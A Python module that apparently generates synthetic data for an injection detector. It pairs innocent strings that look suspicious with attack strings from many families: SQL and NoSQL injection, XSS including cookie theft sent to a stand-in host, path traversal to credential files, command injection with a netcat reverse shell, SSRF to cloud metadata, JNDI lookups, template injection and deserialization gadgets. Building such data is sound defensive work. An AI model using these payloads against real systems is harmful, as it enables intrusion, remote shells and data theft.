"""Arguments of our own: honest ones that look like attacks by their signs, and attacks in the forms of the families that public lists
hold few of. Made of parts, the same in every run; texts are ours."""

WORDS = ("lamp table curtain ring chain scarf poster frame sticker planner bracelet mug print pattern basket pillow candle notebook wreath "
         "apron quilt bowl stamp ribbon charm clock shelf tray vase coaster puzzle kite drum flute globe mirror ladder bench fence").split()
ADJECTIVES = ("blue rustic small vintage wooden silver handmade large oak linen white soft round modern copper long bright cosy green "
              "simple early late northern heavy light quiet").split()
NAMES = ("O'Neill O'Brien D'Angelo McDonald's Sainsbury's Levi's Hawai'i Qur'an L'Oréal Rock'n'Roll Ben&Jerry's Johnson&Johnson AT&T "
         "Women's Men's Children's Mother's Baker's").split()
VERBS = "select update delete insert drop create union join order group alter execute call use show limit like set grant".split()
TOPICS = ("a good hotel near the station|the best union of the two lists|a table by the window|two tables for Friday and one for Saturday|"
          "all the tasks that are done|the old draft from last week|every second row of chairs|a group of friends or a class|"
          "from the list of colours|the values on page 3|what comes first, the order or the invoice|a drop of 5% or 10%|"
          "where the view is best|the index of a book|a new user for the team|more than one database vendor").split("|")
PLACES = "Rome|Lisbon|the harbour|our office|room 12|Building C|the north wing".split("|")


def honest(random):
    """One text of an honest argument that has the signs of an attack."""
    w, x, adj = random.choice(WORDS), random.choice(WORDS), random.choice(ADJECTIVES)
    name, verb, topic, place = (random.choice(all) for all in (NAMES, VERBS, TOPICS, PLACES))
    n, m = random.randint(1, 99), random.randint(2, 40)
    forms = [
        f'{adj} {w} {n}" or {m}" wide', f'{w} ({n}.5x{m}" - {adj}) -- {m} pieces', f"{name} {adj} {w}; {x} included", f'"{w}" and "{x}"',
        f'"{adj} {w}" OR "{x}" -{random.choice(WORDS)}', f"{name} and {random.choice(NAMES)} {w}", f"{w} 'n' {x}", f"the '{n}0s and '{m % 9}0s {w}",
        f"please {verb} {topic}", f"{verb} {topic}", f"I'd like to {verb} {topic}; can you {random.choice(VERBS)} it by noon?",
        f"{verb} the {adj} {w} from {place} where the {x} is", f"{n} or {m}", f"{n} and {m}/{m + 1}\" {w}", f"(+{n}) {m}17-{n}88", f"{n}#{m}",
        f"{w} #{n} -- {adj}", f"{adj} & {x} <3 {w}", f"{n} < {m} and {m} > {n - 1}", f"a {w} = {n} {x}s", f"({n})-{w[0]}", f"x = {n} or y = {m}, which one?",
        f"<b>{adj}</b> {w}", f"{w} <br/> {x}", f'<a href="/{w}s/{x}.html">{adj} {w}</a>', f'<p class="{w}">{adj} {x}</p><p>{place}</p>',
        f'<table border="1" cellpadding="{m % 9}"><tr><td>{w}</td></tr></table>', f'<img src="/img/{w}.png" alt="{adj} {w}">',
        f"{w}_{x}.tar.gz", f"./{w}/{x}.md", f"docs/{w}/../{x}.txt is gone" if n % 7 == 0 else f"docs/{w}/{x}.txt", f"C:\\Users\\{w}\\Documents\\{x}.docx",
        f"http://localhost:{3000 + n}/{w}", f"https://shop.example/{w}s?q={adj}+{x}&page={m}", f"https://{w}.example/a?x={n}&y={m}#top",
        f"{{{{{w}}}}}", f"Hello {{{{name}}}}, your {w} is ready", f"${{{w}}}/{x}", f"${n}.{m}", f"{w} && {x}" if n % 5 == 0 else f"{w} & {x}",
        f"{w}; {x}; {adj}", f"{w} | {x} | {adj}", f"| {w} | {x} |\n|---|---|\n| {n} | {m} |", f"{w}: {adj}, {x}: {n}%", f"`{w}` is {adj}",
        f"- [ ] {verb} the {w}\n- [x] {adj} {x}", f"{verb.upper()} THE {adj.upper()} {w.upper()} FOR {place.upper()}", f"\"{verb.upper()}\" {w} {x}",
        f"who says \"{verb} or {random.choice(VERBS)}\"?", f"how does sleep({m}) work in {w}.js?", f"what is the union of {w} and {x}?", f"{name} ({place})",
        f"{n}:{m:02d} or {n % 12 + 1}:{n % 60:02d}, {place}", f"{w}@{x}.example", f"{w}+{x}@mail.example", f"#{w} #{x}", f"{w}/{x}", f"1.{n}.{m}-rc1+{w}",
        f"^{w}[0-9]+$", f"{w}.*{x}", f"*.{w}", f"{n}e-{m}", f"[{n}, {m}]", f'{{"{w}": {n}, "{x}": "{adj}"}}', f"{w}(n) = {n} * n + {m}", f"\\frac{{{n}}}{{{m}}}",
        f"def {w}({x}):\n    return {x} * {n}\n", f"const {w} = ({x}) => {x} + {n};", f"for (let i = 0; i < {n}; i++) {{ {w}[i] = {m}; }}",
        f"import {w}\nfrom {x} import {adj}\n\nprint({w}.{adj}({n}))", f"body {{ background: url({w}.png) }}", f"cp {w}.txt {x}.txt", f"git log --oneline -{n}",
        f"{m} {m % 5} * * {n % 7}", f"{w}({x}_name='{adj}.txt')", f"get_{w}(id={n}, mode='{adj}')", f"{w}(file='{x}{n}.csv', lines={m})", f"{w}.{x}({n}, \"{adj}\")",
        random.choice(("password", "admin", "root", "null", "true", "select", "passwords", "union", "script", "system")), f"ls -la /home/{w}", f"cd /srv/{w} && make {x}",
        f"python3 {w}.py --{x} {n}", f"select the {x} from {w}s where they are {adj}", f"find the {w}; set the {x}; more {adj} ones", f"{w}' {n}", f"{n}' x {m}' {w}", f"it's the {w}'s {x}", f"\"{adj}\" + \"{w}\"", f"'{w}' is {adj}", f"{w} -- {x} -- {adj}",
        f"Re: {w} -- {verb} {topic}", f"{verb} {w}, then {random.choice(VERBS)} {x}", f"{place}; {place}", f"{w}? {x}! {adj}...", f"{n} % {m}", f"{adj}* {w}",
        f'{{"{w[0]}":{n}}}', f'{{"{w}":{n}}}', f'{{"{w}": true}}', f'["{w}", "{x}"]', f'{{"{x}":null,"{w}":[{n}]}}', f'{{"{w}":"{x}"}}', f"see {w}/{x}.md", f"edit /etc/hosts for {w}",
        f'"{verb.upper()}" {w}', f"{w.upper()} '{x.upper()}'", f"'{verb}' the {w}", f"{n},({m})", f"{n}),({m}", f"{w.upper()} {n}&#39;", f"{w} {n}&quot; & {x}", f"{n} {verb.upper()} {adj.upper()}", f"{name} {verb.upper()} {topic}", f"{w.upper()} {x.upper()} {n}';",
        f"{w} ({m}.5X{n}\"-{n}0 DPI) --", f'"{n} {m}\'/{n % 9}', f"{w.upper()} {n} '#", f"{w}/*", f"*/*", f'"*"', f"`{n}", f"{n}`", f"{w}=[]'", f"?{w}={n}&", f"{w.upper()}=1;{x}={n}; __{w}={m}",
    ]
    return random.choice(forms)


INNER = ("127.0.0.1 localhost 127.1 0 0.0.0.0 2130706433 0x7f000001 0177.0.0.1 0x7f.0.0.1 017700000001 127.127.127.127 127.0.1.3 [::] [::1] [::ffff:127.0.0.1] "
         "[0:0:0:0:0:ffff:7f00:1] 169.254.169.254 2852039166 0xa9fea9fe 0251.0376.0251.0376 [::ffff:a9fe:a9fe] 10.0.0.5.nip.io 127.0.0.1.sslip.io localtest.me "
         "metadata.google.internal 425.510.425.510 192.168.0.1.xip.io").split()
SCHEMES = "http https ftp gopher dict ldap tftp sftp netdoc jar:http".split()
DOTS = ("../ ..\\ ..%2f ..%5c %2e%2e/ %2e%2e%2f %252e%252e%252f ..%c0%af %c0%ae%c0%ae/ %c0%ae%c0%ae%c0%af ..%252f ....// ..././ ..;/ %uff0e%uff0e%u2215 "
        "..%00/ .%2e/ ..%255c %e0%80%ae%e0%80%ae%2f ..%f0%80%80%af").split()
AIMS = ("etc/passwd etc/shadow etc/hosts proc/self/environ windows/win.ini boot.ini WEB-INF/web.xml var/log/auth.log root/.ssh/id_rsa app/.env "
        "config/database.yml windows\\system32\\drivers\\etc\\hosts").split()
COMMANDS = ("id|whoami|cat /etc/passwd|uname -a|sleep 7|ping -c 4 192.0.2.7|nslookup x.probe.example|wget http://probe.example/a|curl probe.example|ls -la /|"
            "dir c:\\|type c:\\windows\\win.ini|net user|ipconfig /all|powershell -c whoami|nc 192.0.2.7 4444 -e /bin/sh|touch /tmp/p7|env").split("|")
SEPARATORS = "; | || & && $( ` %0a %0d%0a %26 %7c \n ;$IFS |%20".split(" ")
TABLES = "users accounts members staff logins orders".split()
COLUMNS = "password pass pw email card token".split()


def sql_attack(random):
    t, c, n = random.choice(TABLES), random.choice(COLUMNS), random.randint(1, 99)
    q = random.choice(("'", '"', "')", "'))", '")', "", "-1", str(n), "`"))
    gap = random.choice((" ", " ", "/**/", "+", "%20", "\t", "%09"))
    body = random.choice((
        f"or {n}={n}", f"or 'x'='x", f"or '{c}' like '{c}", f"and {n}={n + 1}", f"or true", f"or not false", f"|| {n}={n}", f"and 'a'<'b", f"or {n} between {n - 1} and {n + 1}",
        f"union select null,{c},null from {t}", f"union all select {n},{n + 1},{n + 2}", f"union select @@version", f"order by {n}", f"group by {t}.{c} having 1=1",
        f"and sleep({n})", f"and (select * from (select(sleep({n})))x)", f"; waitfor delay '0:0:{n}'", f"and pg_sleep({n}) is null", f"or benchmark({n}000000,md5({n}))",
        f"and extractvalue({n},concat(0x7e,(select {c} from {t} limit 1)))", f"and updatexml(1,concat(0x3a,user()),1)", f"and {n}=cast((select {c} from {t}) as int)",
        f"and ascii(substring((select {c} from {t} limit 1),{n % 9 + 1},1))>{n}", f"and exists(select {c} from {t})", f"; drop table {t}", f"; exec xp_cmdshell 'dir'",
        f"; update {t} set {c}='x' where {n}={n}", f"procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)", f"into outfile '/var/www/x{n}.php'",
        f"and {n}=(select count(*) from sysobjects)", f"or (select 1 from dual)={n}", f"having {n}={n}", f"rlike (select {n})", f"and if({n}={n},sleep(3),0)", f"case when {n}={n} then 1 else 0 end",
        f"and utl_inaddr.get_host_name((select {c} from {t})) is null", f"or randomblob({n}0000000)", f"and load_extension('x')", f"limit 1,1 union select {c} from {t}"))
    text = q + " " + body
    tail = random.choice(("", " --", " -- -", "#", "/*", ";--", " -- " + c, ";%00", "'"))
    return (text + tail).replace(" ", gap if gap else " ")


def nosql_attack(random):
    n, c = random.randint(1, 99), random.choice(COLUMNS)
    return random.choice((
        f'{{"$ne": {n}}}', '{"$gt": ""}', '{"$regex": "^a.*"}', f'{{"{c}": {{"$ne": null}}}}', f"[$ne]={n}", f"{c}[$regex]=.*", '{"$where": "sleep(' + str(n * 100) + ')"}',
        f"' || '{n}'=='{n}", f"'; return this.{c} != '", f"' || this.{c}.match(/^a/) || '", f"{{$nin: [{n}]}}", '{"$or": [{}, {"a": "a"}]}', f"';sleep({n}00);var x='"))


def markup_attack(random):
    n = random.randint(1, 99)
    act = random.choice((f"alert({n})", "alert(document.cookie)", f"confirm`{n}`", "prompt(document.domain)", "fetch('//probe.example/'+document.cookie)", "eval(atob('YQ=='))",
                         "location='//probe.example'", "import('//probe.example/x.js')", "top['al'+'ert'](1)"))
    tag = random.choice("svg img body details video audio iframe input marquee object select textarea div a math".split())
    event = random.choice("onload onerror onclick onfocus ontoggle onmouseover onpointerenter onanimationstart onbegin onwheel oncut".split())
    gap = random.choice((" ", "/", "\t", "\n", "%0a", " x "))
    return random.choice((
        f"<script>{act}</script>", f"<{tag}{gap}{event}={act}>", f'"><{tag} {event}="{act}">', f"' {event}='{act}", f'" autofocus {event}="{act}', f"javascript:{act}", f"java\tscript:{act}",
        f'<a href="javascript:{act}">x</a>', f"<iframe src=javascript:{act}>", f"<ScRiPt >{act}</sCrIpT>", f"%3Cscript%3E{act}%3C/script%3E", f"&lt;script&gt;{act}&lt;/script&gt;",
        f"\\x3cscript\\x3e{act}\\x3c/script\\x3e", f"\\u003cimg src=x {event}={act}\\u003e", f"<style>@import'//probe.example/{n}.css'</style>", f"</textarea><script>{act}</script>",
        f"';{act}//", f'"-{act}-"', f"${{{act}}}", f"<svg><animate onbegin={act} attributeName=x>", f"<object data=data:text/html;base64,PHN2Zz4=>", f"<embed src=//probe.example/{n}.swf>",
        f"<math><a xlink:href=javascript:{act}>", f"<base href=//probe.example/>", f'<meta http-equiv=refresh content="0;url=javascript:{act}">', f"<x contenteditable onblur={act}>"))


def template_attack(random):
    n, m = random.randint(2, 99), random.randint(2, 99)
    o, c = random.choice((("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%= ", " %>"), ("*{", "}"), ("{%", "%}"), ("@(", ")"), ("[[${", "}]]"), ("%{", "}"), ("{{=", "}}")))
    body = random.choice((f"{n}*{m}", f"'{n}'*{m}", "config.items()", "self.__init__.__globals__", "''.__class__.__mro__[1].__subclasses__()", "request.application.__globals__",
                          "T(java.lang.Runtime).getRuntime().exec('id')", "''.getClass().forName('java.lang.Runtime')", "system('id')", "_self.env.registerUndefinedFilterCallback('exec')",
                          "cycler.__init__.__globals__.os.popen('id').read()", "constructor.constructor('return process')()", "#ctx=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS", "File.open('/etc/passwd').read",
                          "['id']|filter('system')", "7|attr('__class__')", "range.constructor('return global')()"))
    return random.choice((o + body + c, o + body + c, f'<#assign x="freemarker.template.utility.Execute"?new()>${{x("id")}}', f"#set($x={n}*{m})$x", f"${{jndi:ldap://probe.example/{n}}}",
                          f"${{${{lower:j}}ndi:${{lower:r}}mi://probe.example/{n}}}", f"${{${{::-j}}${{::-n}}di:dns://probe.example/{n}}}", f"${{env:X:-j}}ndi:ldap://a.example/{n}"))


def other_attack(random):
    n = random.randint(1, 99)
    header = random.choice(("Set-Cookie: s=1", "Location: https://probe.example", "X-Probe: 1", "Content-Length: 0", "Bcc: a@probe.example", "HTTP/1.1 200 OK"))
    line = random.choice(("\r\n", "%0d%0a", "%0a", "%250d%250a", "\\r\\n", "%E5%98%8D%E5%98%8A", "%u000d%u000a"))
    return random.choice((
        f"v{n}{line}{header}", f"/{line}{header}", f"a@b.example{line}{header}", f"*)(uid=*))(|(uid=*", f"admin)(&)", f"*)(|(cn=*", f"x)(|(password=*)", f"admin)(!(&(1=0",
        f"' or count(/*)={n} or 'a'='b", "x' or name()='a' or 'x'='y", f"']|//*|/a['", f'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>',
        f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://probe.example/{n}.dtd"> %p;]>', '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
        '{"__proto__": {"admin": true}}', "__proto__[admin]=1", "constructor[prototype][admin]=1", '{"constructor": {"prototype": {"x": 1}}}', f'O:{n % 9 + 1}:"A":1:{{s:1:"c";s:2:"id";}}',
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA==", '!!python/object/apply:os.system ["id"]', '{"@type":"com.sun.rowset.JdbcRowSetImpl","autoCommit":true}', "__import__('os').system('id')",
        "eval(compile('1','x','exec'))", "require('child_process').execSync('id')", "<?php system($_GET['c']); ?>", "<!--#exec cmd=\"id\" -->", "<esi:include src=\"http://probe.example/\"/>",
        "() { :;}; echo probe", "php://filter/convert.base64-encode/resource=index.php", "data://text/plain;base64,PD9waHA=", "expect://id", "phar://x.jpg/a", "zip://x.zip%23a.php",
        "\\\\probe.example\\share\\a", "{__schema{types{name,fields{name}}}}"))


PROGRAMS = "id whoami hostname uname printenv ifconfig ipconfig systeminfo netstat tasklist reboot ls dir ps".split()
CMDLETS = ("Get-Content C:\\\\x.txt|Invoke-Expression $x|Start-Process calc|Get-ChildItem|New-LocalUser p|Invoke-WebRequest probe.example|iex(irm probe.example)|Remove-Item -Recurse C:\\\\x|"
           "Set-ExecutionPolicy Bypass|Stop-Service x").replace("\\\\", "\\").split("|")
OPTIONS = ("--upload-pack=touch x|-oProxyCommand=id|--checkpoint-action=exec=sh x|--use-askpass=calc|--post-file=/etc/passwd|--output=/etc/cron.d/x|-exec id ;|--to-command=sh|ext::sh -c id|--rsh=sh|"
           "--exec=sh|-rf|--config=/tmp/x|-e sh").split("|")


def shell_attack(random):
    """Forms of a second command that lists hold few of: a bare program, PowerShell, cmd.exe, options, words of a shell's own."""
    w, n, p = random.choice(WORDS), random.randint(1, 99), random.choice(PROGRAMS)
    s = random.choice((";", "; ", "|", " | ", "&", " & ", "&&", " && ", "||", "\n", "%0a", "%26"))
    return random.choice((
        f"{w}{s}{p}", f"{w}.{random.choice(('jpg', 'txt', 'pdf'))}{s}{p}", f"{w}{s}{p}{s}", f"{n}{s}{p} #", f"'{s}{p}{s}'", f'"{s}{p}', f"{w}{s}{random.choice(CMDLETS)}", random.choice(OPTIONS),
        f"{w}{s}a={p};$a", f"{w}{s}eval {p}", f"{w}{s}exec sh", f"{w}{s}kill -9 {n}", f"{w}{s}crontab -l", f"{w} & for /f %i in ('{p}') do echo %i", f"{w} & reg query HKLM\\SOFTWARE", f"{w} & del /q c:\\{w}",
        f"{w}{s}sh<<<{p}", f"{w}{s}/b?n/{p[0]}?", f"{w}{s}{p[0]}''{p[1:]}", f"{w}{s}{p[0]}\\{p[1:]}", f"{w}{s}{p[0]}$@{p[1:]}", f"{w}{s}$'\\x{n:02x}\\x64'", f"`{p}`", f"$({p})", f"{w}$({p})", f"{w}{s}${{IFS}}{p}", f"%COMSPEC% /c {p}", f"cmd /c {p}"))


def reach_attack(random):
    """Addresses, wrappers, headers, objects and names of what an interpreter keeps for itself."""
    w, n = random.choice(WORDS), random.randint(1, 99)
    inner = random.choice(INNER)
    return random.choice((
        f"gopher://{w}.example:{n}/_x", f"dict://{w}.example:11211/stats", f"tftp://{w}.example/x", f"php://filter/read=string.rot13/resource={w}.php", f"php://input", f"phar://{w}.jpg/x", f"zip://{w}.zip%23x.php", f"expect://ls",
        f"jar:http://{w}.example/a.jar!/x", f"netdoc:///etc/hosts", f"compress.zlib://{w}", f"glob:///var/{w}/*", f"ldap://{w}.example:1389/Exploit", f"\\\\192.0.2.{n}\\{w}", f"http://{inner}:{random.choice((22, 25, 6379, 9200, 8500, 2375, 11211, 3306))}/",
        f"http://{inner}/{random.choice(('admin', 'server-status', 'manager/html', '_cat/indices', 'containers/json', 'actuator/env', 'phpmyadmin'))}", f"http://{w}.example@{inner}/", f"http://{inner}#@{w}.example/", f"http:\\\\{inner}\\", f"http://{inner}%00.{w}.example",
        f"http://kubernetes.default.svc/api/{w}", f"{w}@a.example\r\nBcc: b@probe.example", f"{w}@a.example\nTo: b@probe.example", f"{w}\r\nX-{w.title()}: 1", f"{w}\r\nSet-Cookie: {w}={n}", f"{{$smarty.{w}}}", f"{{system('id')}}", f"{{{{printf \"%s\" .{w.title()}}}}}",
        f"{{{{ .{w.title()} | html }}}}{{{{call .x}}}}", f"{{%debug%}}{{{{{n}*{n}}}}}", f"${{bundle:{w}:x}}", f"${{ctx:{w}}}", f'{{"py/object": "os.system"}}', f'{{"@class": "javax.script.ScriptEngineManager"}}', f'["org.springframework.context.support.{w}Context", "http://probe.example/x.xml"]',
        f"<java.util.{w.title()} serialization='custom'>", f"BAhvOhVS{w}{n}AAAA", f"System.exit({n})", f"Deno.run({{cmd:['{w}']}})", f"class.module.classLoader.{w}={n}", f"(#_memberAccess['x']={n})", f"pickle.loads({w})", f"[{w}.__proto__][{n}]", f"{w}.__proto__.x={n}",
        f"{w}[constructor][prototype][x]={n}", f"{{__type(name:\"User\"){{fields{{name}}}}}}", f"query{{__schema{{types{{name}}}}}}", f"%x%x%x%x%n", f"%{n}$s%{n}$n", f"{w})(&)", f"{w})(uid=*", f"{n} or true()", f"file:///proc/self/environ", f"{w}/..%2f..%2fetc%2fpasswd",
        f"{w}.asp::$DATA", f"\\\\?\\C:\\{w}", f"/WEB-INF/{w}.xml", f"/proc/{n}/cmdline", f"/etc/{random.choice(('shadow', 'sudoers', 'crontab', 'issue'))}"))


def attack(random):
    """One text of an attack and its kind. Its host is anybody's: a name must not tell."""
    text, kind = any_attack(random)
    host = random.choice(WORDS) + random.choice(("", "s", "-" + random.choice(WORDS))) + random.choice((".example", ".example", ".com", ".net", ".org", ".io"))
    return text.replace("probe.example", random.choice(("", "", "www.", "a.")) + host), kind


def any_attack(random):
    other = random.random()
    if other < 0.12:
        return shell_attack(random), "command"
    if other < 0.24:
        return reach_attack(random), "other"
    kind = random.choice(("sql", "sql", "sql", "sql", "xss", "xss", "xss", "path", "path", "command", "command", "ssrf", "code", "code", "other", "sql"))
    n = random.randint(1, 99)
    if kind == "sql":
        return (nosql_attack if n % 8 == 0 else sql_attack)(random), kind
    if kind == "xss":
        return markup_attack(random), kind
    if kind == "code":
        return template_attack(random), kind
    if kind == "other":
        return other_attack(random), kind
    if kind == "path":
        lead = random.choice(("", "/", "file=", "./", "img/", "C:\\x\\"))
        end = random.choice(("", "", "%00", "%00.png", "?", "#"))
        return lead + random.choice(DOTS) * random.randint(2, 8) + random.choice(AIMS) + end, kind
    if kind == "command":
        lead = random.choice(("", "x", "8.8.8.8", "a.txt", "name'", 'name"', "foo=bar"))
        command = random.choice(COMMANDS)
        if n % 3 == 0:
            command = command.replace(" ", random.choice(("${IFS}", "$IFS$9", "%20", "+", "\t", "<")))
        separator = random.choice(SEPARATORS)
        return lead + separator + command + {"$(": ")", "`": "`"}.get(separator, random.choice(("", "", "#", "'", ";", " &"))), kind
    scheme = random.choice(SCHEMES)
    host = random.choice(INNER)
    port = random.choice(("", "", ":22", ":25", ":6379", ":2375", ":80", ":11211"))
    aim = random.choice(("", "/", "/latest/meta-data/", "/computeMetadata/v1/", "/containers/json", "/_INFO%0d%0a", "/stats", "/v2/keys", "/metadata/instance"))
    user = random.choice(("", "", "", "a.example@", "a.example:80@", "x:y@"))
    # A plain address of this machine is no attack by itself.
    if host in ("127.0.0.1", "localhost", "[::1]", "0.0.0.0") and scheme in ("http", "https") and not user:
        port, aim = ":6379", "/_INFO%0d%0a"
    return f"{scheme}://{user}{host}{port}{aim}", kind
